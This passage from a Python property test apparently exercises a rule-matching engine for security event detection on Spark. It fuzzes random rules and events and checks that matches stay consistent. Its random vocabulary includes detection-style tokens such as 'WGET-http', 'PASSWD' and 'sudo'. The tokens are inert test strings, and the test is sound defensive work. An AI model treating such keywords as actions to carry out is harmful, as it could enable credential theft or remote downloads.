        body = {"a": rng.choice([test(), {**test(), **test()}, [test(), test()], [rng.choice(words)], {"raw|re": "[0-9]x"}, {"hour_local|gt": 20}]), "b": test()}
        made.append(rules.Rule(f"r{i}", "t", {**body, "condition": rng.choice(["a", "a and b", "a or b", "a and not b", "1 of them", "not a and b"])}))
    text = lambda: " ".join(rng.choice([*words, "xay", "WGET-http", "PASSWD", "7x", "sudo", "SUDO", "k", "ordinary"]) for _ in range(rng.randint(0, 3)))
    df = frame(spark, *({"raw": text(), "command": rng.choice([None, text()]), "actor": text(), "tags": [text(), text()], "extra": {"status": text()}, "event_type": text(), "hour_local": rng.randrange(24)} for _ in range(300)))
    of = lambda found: sorted((r.id, r.rule_key) for r in found.collect())
    expected = of(rules.matches(df, made))
    monkeypatch.setattr(rules, "GROUP", 7)
    assert of(rules.matches(df, made)) == expected and len(expected) > 500
    assert rules.Rule("r", "t", {"a": {"raw|contains": ["one two", "three"]}, "b": {"raw": "*four*"}, "condition": "a and not b"}).needs() == {"one two", "three"}
    assert rules.Rule("r", "t", {"a": {"raw|contains": "one", "command|re": "x"}, "b": {"raw|exists": True}, "condition": "a or b"}).needs() is None
